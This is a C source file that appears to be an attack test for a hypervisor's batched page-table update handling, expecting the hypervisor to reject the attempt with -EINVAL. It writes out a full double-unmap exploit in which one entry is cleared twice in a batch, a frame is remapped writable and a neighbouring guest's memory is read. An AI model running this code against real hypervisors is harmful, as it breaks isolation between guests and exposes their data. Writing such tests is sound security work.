/*
 * Way out: drop one mapping twice. In a batch that is long enough for array operations two updates
 * clear the same entry; what looks at all entries before it changes any finds it there both times,
 * and takes the frame for unmapped where it is still mapped writable elsewhere.
 * Rule: each update of a batch finds what the one before it has left (do_mmu_update).
 * Check: hypervisor.mm.bulk.Bulk._old
 */
#include "attacks.h"

#define NR_UPDATES 256

static struct mmu_update requests[NR_UPDATES];

/* Clears what is clear; often enough for the array operations to be worth their import. */
static long many_updates(void)
{
    u64 entry = entry_maddr(pt_walk((word)own[2], 1));
    long err = map(own[2], 0, 0);

    for (int i = 0; i < NR_UPDATES; i++)
        requests[i] = (struct mmu_update){ .ptr = entry };
    for (int round = 0; round < 300 && !err; round++)
        err = hv_mmu_update(requests, NR_UPDATES, NULL);
    return err;
}

static long clear_twice(const void *page)
{
    u64 entry = entry_maddr(pt_walk((word)page, 1));

    requests[NR_UPDATES / 2].ptr = entry;
    requests[NR_UPDATES / 2 + 1].ptr = entry;
    return hv_mmu_update(requests, NR_UPDATES, NULL);
}

ATTACK(twice_in_batch, "-EINVAL")
{
    word mfn = virt_to_mfn(own[0]);

    make_window();
    if (refused(many_updates()) || refused(map(own[1], mfn, WRITABLE)) ||
        refused(clear_twice(own[1])) ||
        refused(update(entry_maddr(pt_walk(WINDOW, 2)), make_pte(mfn, WRITABLE))))
        return;
    if (poke_entry((volatile pte_t *)own[0], make_pte(neighbours_mfn, READABLE)))
        window_shows_secret();
}
